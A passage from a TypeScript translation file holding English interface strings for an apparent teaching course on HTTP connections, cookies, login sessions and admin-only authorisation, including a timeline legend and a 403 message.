      lost: 'still on the server, but this browser lost its cookie',
      out: 'none',
    },
    moment: {
      request: '{{request}} → {{status}}',
      'connection-closed': 'the server closes the idle connection',
      'browser-closed': 'the browser is closed',
      'login-expired': 'the login session expires: idle too long',
    },
    newConnection: 'new connection',
    newBrowser: 'browser started',
    legend: {
      on: 'open / logged in',
      lost: 'on the server only',
      off: 'closed / none',
    },
    empty: 'No request yet in this chapter.',
    note: 'Drawn from this chapter’s exchanges, one moment per mark (not to scale). Simplified: one connection per browser (real browsers open up to six per site), closed by the server after Node’s 5-second keep-alive timeout.',
  },
  authz: {
    trace: {
      'role-ok': 'Account is an admin: allowed',
      'role-bad': 'Logged in, but not an admin → 403',
    },
    page: {
      title: 'Admin: every account',
      caption: 'The shop’s accounts and what each may do',
      name: 'Name',
      role: 'Role',
      forbidden: '{{name}}, you are logged in, but this page is for admins only. (403)',
    },
  },
};

export type CourseMessages = typeof courseEn;
